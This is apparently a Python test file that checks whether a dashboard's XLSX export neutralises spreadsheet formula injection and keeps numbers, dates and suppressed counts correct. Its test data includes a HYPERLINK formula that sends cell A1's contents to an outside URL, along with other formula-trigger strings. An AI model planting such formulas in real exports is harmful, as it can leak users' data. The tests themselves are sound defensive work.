"""XLSX downloads: text neutralised and never a formula, numbers and dates as values."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime

import polars as pl
from openpyxl import load_workbook

from dashboards.downloads import XLSX_MEDIA_TYPE, download_file_name, to_safe_xlsx

HYPERLINK = '=HYPERLINK("http://example.com/x?d="&A1,"Click")'


def _sheet_xml(workbook: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_formula_cells_are_written_as_quoted_text() -> None:
    # Given text cells that spreadsheet software would run, and a harmless one
    frame = pl.DataFrame(
        {
            "note": [HYPERLINK, "+1+1", "-2", "@SUM(A1)", "\tx", "\rx", "plain", None],
            "n": list(range(8)),
        }
    )

    # When the frame is written as XLSX and read back
    workbook = to_safe_xlsx(frame, sheet_name="Targets")
    sheet = load_workbook(io.BytesIO(workbook)).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]

    # Then each trigger cell is the text with a leading quote, none is a formula
    assert [cell.value for cell in cells] == [
        f"'{HYPERLINK}",
        "'+1+1",
        "'-2",
        "'@SUM(A1)",
        "'\tx",
        "'\nx",  # XML reads a carriage return back as a line feed; the quote is what matters
        "plain",
        None,
    ]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    assert "<f>" not in _sheet_xml(workbook)


def test_numbers_dates_and_header() -> None:
    # Given a count, a rate with a gap and a NaN, a month and an instant
    frame = pl.DataFrame(
        {
            "falls": [5, 4, 3],
            "rate": [2.5, None, float("nan")],
            "month": [date(2026, 1, 1), date(2026, 2, 1), date(2026, 3, 1)],
            "set_at": [datetime(2026, 7, 1, 12, 0, tzinfo=UTC)] * 3,
            "=evil_header": ["a", "b", "c"],
        }
    )

    # When it is written and read back
    sheet = load_workbook(io.BytesIO(to_safe_xlsx(frame, sheet_name="Quality: summary?"))).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))

    # Then numbers are numbers, gaps and NaN are empty, dates are dates, instants UK time
    # (13:00 BST), the header is bold, frozen and neutralised, and the sheet name is cleaned
    assert rows[0] == ("falls", "rate", "month", "set_at", "'=evil_header")
    assert rows[1] == (5, 2.5, datetime(2026, 1, 1), datetime(2026, 7, 1, 13, 0), "a")
    assert rows[2][1] is None
    assert rows[3][1] is None
    assert sheet["C2"].is_date
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.title == "Quality  summary"


def test_suppressed_counts_and_empty_frame() -> None:
    # Given a disclosure-controlled count with a suppressed value, and an empty frame
    controlled = pl.DataFrame({"provider_id": ["1-1", "1-2"], "rows_read": [None, 1030]})
    empty = pl.DataFrame(schema={"location": pl.String, "rate": pl.Float64})

    # When both are written
    sheet = load_workbook(
        io.BytesIO(to_safe_xlsx(controlled, sheet_name="x", suppressed=["rows_read"]))
    ).active
    blank = load_workbook(io.BytesIO(to_safe_xlsx(empty, sheet_name="x"))).active
    assert sheet is not None
    assert blank is not None

    # Then the suppressed cell says [c] and the empty frame has just its header
    assert list(sheet.iter_rows(min_row=2, values_only=True)) == [("1-1", "[c]"), ("1-2", 1030)]
    assert list(blank.iter_rows(values_only=True)) == [("location", "rate")]
    assert download_file_name("quality", "summary", suffix=".xlsx") == "quality-summary.xlsx"
    assert XLSX_MEDIA_TYPE.endswith("spreadsheetml.sheet")
